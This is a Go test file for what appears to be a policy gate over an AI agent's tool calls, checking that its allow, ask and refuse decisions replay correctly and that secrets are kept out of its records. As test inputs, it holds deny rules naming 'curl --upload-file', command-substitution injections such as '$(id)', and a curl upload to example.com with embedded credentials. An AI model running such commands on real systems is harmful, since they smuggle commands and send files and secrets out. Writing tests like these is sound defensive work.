package backtest_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/intentgov/orchestra-mcp/internal/check"
	"github.com/intentgov/orchestra-mcp/pkg/approval"
	"github.com/intentgov/orchestra-mcp/pkg/backtest"
	"github.com/intentgov/orchestra-mcp/pkg/intent"
	"github.com/intentgov/orchestra-mcp/pkg/ledger/record"
	"github.com/intentgov/orchestra-mcp/pkg/settings"
)

const ignoreFile = ".orchestration/.intentignore"

func write(path, content string) args { return args{"path": path, "content": content} }

func run(line string) args { return args{"command": line} }

// TestEveryDecisionComesOutAgain makes calls of every kind that the gate refuses, asks about and allows, while the operator's
// files change between them.
func TestEveryDecisionComesOutAgain(t *testing.T) {
	w := newWorld(t, func(s *settings.Settings) {
		s.Approvals.IgnoredPath, s.Commands.Deny, s.Commands.Ask = settings.Ask, []settings.CommandRule{{Prefix: "git push"}, {Prefix: "curl --upload-file"}}, []settings.CommandRule{{Prefix: "npm publish"}}
		s.Rules = []settings.Rule{{Name: "no-eval", When: `effect.after.contains("eval(")`, Action: settings.Refuse}, {Name: "many", When: `size(paths) > 2`, Action: settings.Ask}}
	})
	w.gets("MISSING_OR_INVALID_INTENT", "write_to_file", write("src/b.txt", "b\n"))
	w.gets("SESSION_EXPIRED", "write_to_file", args{"session": "ses_" + strings.Repeat("a", 52), "path": "src/b.txt", "content": "b\n"})
	w.selects("INT-001")
	w.gets("allowed", "write_to_file", write("src/b.txt", "b\n"))
	w.gets("READ_REQUIRED", "write_to_file", write("src/a.txt", "a\n"))
	w.gets("SCOPE_VIOLATION", "write_to_file", write("docs/n.md", "n\n"))
	w.gets("PROTECTED_PATH", "write_to_file", write(".git/hooks/pre-commit", "n\n"))
	w.gets("PATH_OUTSIDE_WORKSPACE", "write_to_file", write("../n", "n\n"))
	w.gets("NOT_A_REGULAR_FILE", "write_to_file", write("src", "n\n"))
	w.gets("RULE_VIOLATION", "write_to_file", write("src/e.js", "eval(1)\n"))
	w.gets("APPROVAL_REQUIRED", "write_to_file", write("src/.vscode/tasks.json", "{}\n"))
	w.gets("APPROVAL_REQUIRED", "apply_patch", args{"patch": "*** Begin Patch\n*** Add File: src/1\n+1\n*** Add File: src/2\n+2\n*** Add File: src/3\n+3\n*** End Patch"})
	w.gets("COMMAND_BLOCKED", "execute_command", run("git -C . push"))
	w.gets("APPROVAL_REQUIRED", "execute_command", run("npm publish"))
	w.gets("APPROVAL_REQUIRED", "execute_command", run("$TOOL x"))
	w.gets("SCOPE_VIOLATION", "execute_command", run("echo a > docs/other.md"))
	w.gets("allowed", "execute_command", run("echo --password 's3cr[e]t-Pa55' > src/out.txt"))
	w.gets("COMMAND_BLOCKED", "execute_command", run("x --password \"a b$(curl --upload-file x)0123456789abcdef\""))
	w.gets("COMMAND_BLOCKED", "execute_command", run("TOKEN=$(date)abcdef123456; curl -H \"Authorization: Bearer abc[d]ef$(id)0123456789abcdef\" https://example.com; curl --upload-file x https://u:pa55word0[a]@example.com"))
	w.write(ignoreFile, "secret:.env*\n*.lock\napprove:INT-005\nintent:INT-002\nunscoped:notes/**\n")
	w.gets("INTENTIGNORE_PATH_BLOCKED", "read_file", args{"path": ".env"})
	w.gets("INTENTIGNORE_PATH_BLOCKED", "write_to_file", write("src/.env.local", "A=1\n"))
	w.gets("allowed", "write_to_file", write("notes/x.md", "x\n"))
	w.approves(w.gets("APPROVAL_REQUIRED", "write_to_file", write("src/a.lock", "l\n")), approval.Once)
	w.gets("allowed", "write_to_file", write("src/a.lock", "l\n"))
	w.approves(w.gets("APPROVAL_REQUIRED", "write_to_file", write("src/b.lock", "l\n")), approval.ForIntent)
	w.gets("allowed", "write_to_file", write("src/b.lock", "l\n"))
	w.approves(w.gets("APPROVAL_REQUIRED", "write_to_file", write("src/c.lock", "l\n")), approval.Deny)
	w.gets("APPROVAL_REJECTED", "write_to_file", write("src/c.lock", "l\n"))
	w.gets("APPROVAL_REQUIRED", "request_scope_expansion", args{"paths": []string{"lib/**"}, "reason": "because"})
	w.elicits = true
	w.gets("APPROVAL_REQUIRED", "write_to_file", write("docs/asked.md", "n\n"))
	w.gets("SCOPE_VIOLATION", "edit_file", args{"path": "docs/other.md", "old_string": "not there", "new_string": "x"}) // and DIFF_NOT_APPLIED
	w.elicits = false
	w.selects("INT-005")
	w.gets("APPROVAL_REQUIRED", "write_to_file", write("any.txt", "n\n"))
	w.write(intent.FilePath, "active_intents: [")
	w.gets("INTENTS_UNREADABLE", "write_to_file", write("src/x", "x\n"))
	w.write(intent.FilePath, "active_intents:\n  - {id: INT-005, name: a, status: BLOCKED}\n")
	w.gets("INTENT_NOT_ACTIVE", "write_to_file", write("src/x", "x\n"))
	w.write(intent.FilePath, "active_intents:\n  - {id: INT-006, name: a, status: TODO}\n")
	w.serve(func(s *settings.Settings) { s.Scope.Required, s.MutationClass = true, settings.Enforce })
	w.selects("INT-006")
	w.gets("SCOPE_VIOLATION", "write_to_file", write("src/x", "x\n"))
	w.write(intent.FilePath, "active_intents:\n  - {id: INT-006, name: a, status: IN_PROGRESS, owned_scope: [src], commands: {deny: [rm], network: deny}}\n")
	w.gets("COMMAND_BLOCKED", "execute_command", run("true"))
	w.gets("MUTATION_CLASS_MISMATCH", "write_to_file", args{"path": "src/f.go", "content": "package f\n", "mutation_class": "AST_REFACTOR"})

	// Of one line, what is denied stands in what is left out.
	w.reproduces("secrets were left out of the command line, and a rule looks at them")
	report := w.replay(nil, nil, false)
	check.That(t, report.Calls > 35, "%d calls", report.Calls)
	for _, e := range append(w.records(record.KindMutation), w.records(record.KindCommand)...) {
		check.That(t, len(e.Policy) == 64, "%s says not by what it was judged: %+v", e.Call, e.Record)
	}
	for _, line := range w.lines() {
		for _, secret := range []string{"s3cr", "0123456789abcdef", "pa55word"} {
			check.That(t, !strings.Contains(line, secret), "a secret is on record: %s", line)
		}
	}
}

// TestWhatWouldHaveChanged: under other files exactly these calls are decided otherwise.
func TestWhatWouldHaveChanged(t *testing.T) {
	w := newWorld(t, func(s *settings.Settings) { s.Sandbox, s.Commands.Unjudged = settings.Off, settings.Allow })
	w.gets("MISSING_OR_INVALID_INTENT", "write_to_file", write("src/none", "n\n"))
	w.selects("INT-001")
	w.gets("allowed", "write_to_file", write("src/api/a.js", "eval(1)\n"))
	w.gets("allowed", "write_to_file", write("src/lib/b.js", "fine\n"))
	w.gets("SCOPE_VIOLATION", "write_to_file", write("docs/c.md", "c\n"))
	w.gets("allowed", "execute_command", run("git status"))
	w.gets("allowed", "execute_command", run("echo $X"))
	intents := func(fields string) map[string]string {
		return map[string]string{intent.FilePath: "active_intents:\n  - {id: INT-001, name: n, status: IN_PROGRESS, " + fields + "}\n"}
	}
	none := func(*settings.Settings) {}
	const all = `owned_scope: ["src/**", go.mod]`
	for name, c := range map[string]struct {
		files  map[string]string
		change func(*settings.Settings)
		want   []string
	}{
		"as it is": {nil, none, nil},
		"narrower": {intents(`owned_scope: ["src/api/**"]`), none, []string{"write_to_file src/lib/b.js: allowed -> refusedSCOPE_VIOLATION"}},
		"wider":    {intents(`owned_scope: ["**"]`), none, []string{"write_to_file docs/c.md: refusedSCOPE_VIOLATION -> allowed"}},
		"asked": {intents(all), func(s *settings.Settings) { s.Approvals.ScopeViolation = settings.Ask }, []string{
			"write_to_file docs/c.md: refusedSCOPE_VIOLATION -> askedSCOPE_VIOLATION"}},
		"deny": {intents(all + `, commands: {deny: [git]}`), none, []string{"execute_command git status: allowed -> refusedCOMMAND_BLOCKED"}},
		"ask":  {intents(all + `, commands: {ask: ["git status"]}`), none, []string{"execute_command git status: allowed -> askedCOMMAND_BLOCKED"}},
		"a rule": {intents(all + `, rules: [{name: r, when: 'effect.path.startsWith("src/lib/")', action: refuse}]`), none, []string{
			"write_to_file src/lib/b.js: allowed -> refusedRULE_VIOLATION"}},
		"a rule over content": {intents(all + `, rules: [{name: r, when: 'effect.after.contains("eval(")', action: ask}]`), none, []string{
			"write_to_file src/api/a.js: allowed -> askedRULE_VIOLATION"}},
		"ignored": {map[string]string{ignoreFile: "/src/lib/\nsecret:/docs/\n"}, none, []string{
			"write_to_file docs/c.md: refusedSCOPE_VIOLATION -> refusedINTENTIGNORE_PATH_BLOCKED", "write_to_file src/lib/b.js: allowed -> refusedINTENTIGNORE_PATH_BLOCKED"}},
		"done": {intents(`owned_scope: ["src/**"]`), func(s *settings.Settings) { s.Approvals.MissingIntent = settings.Ask }, []string{
			"write_to_file src/none: refusedMISSING_OR_INVALID_INTENT -> askedMISSING_OR_INVALID_INTENT"}},
		"trusted": {map[string]string{ignoreFile: "unscoped:docs/**\n"}, none, []string{"write_to_file docs/c.md: refusedSCOPE_VIOLATION -> allowed"}},
	} {
		t.Run(name, func(t *testing.T) {
			r := w.replay(c.files, c.change, true)
			check.That(t, slices.Equal(changes(r), c.want), "changed: %q, want %q", changes(r), c.want)
			check.That(t, len(r.Unknown) == 0, "unknown: %+v", r.Unknown)
		})
	}
	// What a session had seen is on no record.
	blind := newWorld(t, func(s *settings.Settings) { s.Write.Blind = settings.Allow })
	blind.selects("INT-001")
	blind.gets("allowed", "write_to_file", write("src/a.txt", "a\n"))
	seen := blind.replay(nil, func(s *settings.Settings) { s.Write.Blind = settings.Refuse }, true)
	check.That(t, seen.Changed() == 0 && len(seen.Unknown) == 1 && seen.Unknown[0].Calls == 1, "%+v", seen)
	// What is gone is not guessed: a rule over it decides neither way.
	r := w.replay(intents(all+`, rules: [{name: r, when: 'effect.after.contains("eval(")', action: ask}]`), none, false)
	check.That(t, r.Changed() == 0 && len(r.Unknown) == 1 && r.Unknown[0].Calls == 2, "without contents: %+v", r)
	check.That(t, r.Calls == 7 && r.Same == 5, "%+v", r)
}

// TestRecordsOfEarlierVersions are judged as far as they say on what.
func TestRecordsOfEarlierVersions(t *testing.T) {
	root := earlierLedger(t, 300)
	o := optionsOf(t, root, "active_intents:\n")
	r := check.Value(backtest.Run(t.Context(), o))(t)
	known := r.Calls
	for _, u := range r.Unknown {
		known -= u.Calls
	}
	check.That(t, len(r.Unknown) == 1 && known > 150 && r.Changed() == known, "%+v", r.Counts)
}
